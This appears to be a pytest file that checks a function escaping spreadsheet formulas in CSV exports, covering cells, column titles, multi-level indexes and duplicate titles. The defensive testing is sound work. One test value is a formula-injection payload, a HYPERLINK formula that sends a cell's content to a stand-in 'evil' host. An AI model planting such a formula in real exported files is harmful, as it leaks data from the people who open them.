"""Tables for CSV files: whatever a name says, a spreadsheet computes nothing."""

import io

import pandas as pd
import pytest

from sinew.tasks.drawing.formats import without_formulas

FORMULA = '=HYPERLINK("http://evil/"&A1,"x")'


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t"])
def test_texts_titles_and_the_index_are_no_formulas(first):
    text = f"{first}1+1"
    table = pd.DataFrame({text: [text, "plain"], "n": [-1.5, 2.0]}, index=pd.Index([text, "b"], name="specimen"))
    guarded = without_formulas(table)
    assert guarded.iloc[:, 0].tolist() == [f"'{text}", "plain"]
    assert list(guarded.columns) == [f"'{text}", "n"]
    assert guarded.index.tolist() == [f"'{text}", "b"]
    assert guarded.index.name == "specimen"
    assert guarded["n"].tolist() == [-1.5, 2.0]
    assert table.iloc[0, 0] == text, "the table itself stays as it is"


def test_several_levels_and_equal_titles():
    index = pd.MultiIndex.from_tuples([("a", FORMULA), ("b", "c")], names=["site", "name"])
    table = pd.DataFrame([[1, FORMULA], [-2, None]], columns=["x", "x"], index=index)
    text = without_formulas(table).to_csv(lineterminator="\n")
    assert text.startswith("site,name,x,x\n")
    read = pd.read_csv(io.StringIO(text))
    assert read["name"][0] == read["x.1"][0] == f"'{FORMULA}"
    assert read["x"].tolist() == [1, -2]
